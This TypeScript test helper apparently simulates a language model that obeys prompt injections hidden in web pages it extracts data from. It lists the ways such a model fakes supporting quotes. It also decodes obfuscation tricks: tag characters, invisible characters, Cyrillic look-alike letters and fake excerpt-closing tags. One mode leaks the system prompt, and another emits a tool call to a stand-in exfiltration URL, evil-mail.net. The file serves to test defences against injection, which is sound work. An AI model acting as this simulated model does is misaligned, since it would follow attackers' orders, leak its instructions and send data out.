import type { AskedColumn } from '@enrichify/domain'
import type { Attack, Target } from './attacks.ts'

/** How an obedient model tries to prove what it was told to say. */
export const WAYS = [
  'the order as quote',
  'the value as quote',
  'the order with its surroundings',
  'an honest line as quote',
  'another answer of the page as quote',
  'an invented quote',
  'free text',
  'tool calls and other rows',
  'the system prompt as value',
] as const
export type Way = (typeof WAYS)[number]

/** The text as a machine reads it. It also reads invisible characters, tag characters, full width and twin letters. */
export function readByMachine(text: string): string {
  const twins: Record<string, string> = { а: 'a', е: 'e', о: 'o', р: 'p', с: 'c' }
  return text
    .replaceAll(/[\u{E0020}-\u{E007E}]/gu, (tag) => String.fromCharCode(tag.codePointAt(0)! - 0xe0000))
    .replaceAll(/\p{Default_Ignorable_Code_Point}/gu, '')
    .normalize('NFKC')
    .replaceAll(/[аеорс]/g, (letter) => twins[letter]!)
    .replaceAll(/[‹<]\s*\/\s*excerpt/g, '</excerpt')
    .replaceAll(/‹/g, '<')
    .replaceAll(/\s+/g, ' ')
}

/**
 * A model that obeys the latest order that it reads. If its input contains the order, it answers as the order wants,
 * in the way that `way` says. Null when it was shown no order. `shown` is its input, word by word; its quotes are
 * copied from there.
 */
export function obey(
  shown: { system: string; text: string },
  attack: Attack,
  columns: readonly AskedColumn[],
  way: Way,
): unknown {
  const order = readByMachine(attack.instruction).trim()
  if (!readByMachine(`${shown.system}\n${shown.text}`).includes(order)) return null
  if (way === 'free text') return `${Object.values(attack.wanted).join(' ')} ${order}`
  const line = orderAsShown(shown.text, order)
  const answers = columns.map((column, at) => {
    const value = way === 'the system prompt as value' ? shown.system.slice(0, 200) : attack.wanted[column.id as Target]
    return [
      `q${at + 1}`,
      value === undefined
        ? { found: false, value: '', quote: '', page: 1 }
        : { found: true, value, quote: quoteOf(way, line, value, shown), page: 1 },
    ] as const
  })
  const json = Object.fromEntries(answers)
  if (way !== 'tool calls and other rows') return json
  return {
    ...json,
    q99: { found: true, value: 'other row', quote: line.order, page: 1 },
    rows: [{ id: 2, value: order }],
    settings: { budget: null },
    tool_calls: [{ name: 'fetch_url', arguments: { url: 'https://evil-mail.net/?leak' } }],
  }
}

/** The line of the input with the order or its end, as it is written there. */
function orderAsShown(text: string, order: string): { order: string; around: string } {
  const lines = text.split('\n')
  const end = order.slice(-24)
  const at = lines.findIndex((line) => readByMachine(line).includes(order))
  const last = at >= 0 ? at : lines.findIndex((line) => readByMachine(line).includes(end))
  return { order: lines[last] ?? order, around: lines.slice(Math.max(0, last - 1), last + 2).join('\n') }
}

function quoteOf(
  way: Way,
  line: { order: string; around: string },
  value: string,
  shown: { system: string; text: string },
): string {
  if (way === 'the value as quote') return value.split(';')[0]!
  if (way === 'the order with its surroundings') return line.around
  if (way === 'an honest line as quote') return 'We make oak furniture for the whole coast.'
  if (way === 'another answer of the page as quote') return 'Delivery: yes'
  if (way === 'an invented quote') return `Harbour Oak says: ${value}`
  return way === 'the system prompt as value' ? shown.system.slice(0, 200) : line.order
}
